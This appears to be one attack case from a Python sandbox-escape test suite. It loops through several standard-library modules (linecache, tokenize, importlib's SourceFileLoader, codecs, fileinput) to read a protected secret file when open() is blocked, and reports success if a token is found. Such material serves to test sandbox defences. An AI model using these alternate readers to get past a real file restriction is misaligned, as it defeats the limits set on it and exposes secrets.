"""Try every reader of files the standard library has besides open().

origin: linecache, tokenize, zipimport's loader, mmap and fileinput, collected from published jail write-ups
why: replacing one function leaves a dozen others
control: succeeds
"""


READERS = {
    "linecache": lambda module, path: "".join(module.getlines(path)),
    "tokenize": lambda module, path: module.open(path).read(),
    "importlib.machinery": lambda module, path: module.SourceFileLoader("x", path).get_data(path),
    "codecs": lambda module, path: module.open(path, encoding="utf-8").read(),
    "fileinput": lambda module, path: "".join(module.input([path])),
}


def attack(target):
    import importlib

    last = nothing("no reader found anything")
    for name, reader in READERS.items():
        try:
            if holds_token(target, reader(importlib.import_module(name), target["secret"])):
                return escaped(f"read with {name}")
        except OSError as error:
            last = blocked("open", error)
        except ImportError:
            continue
    return last
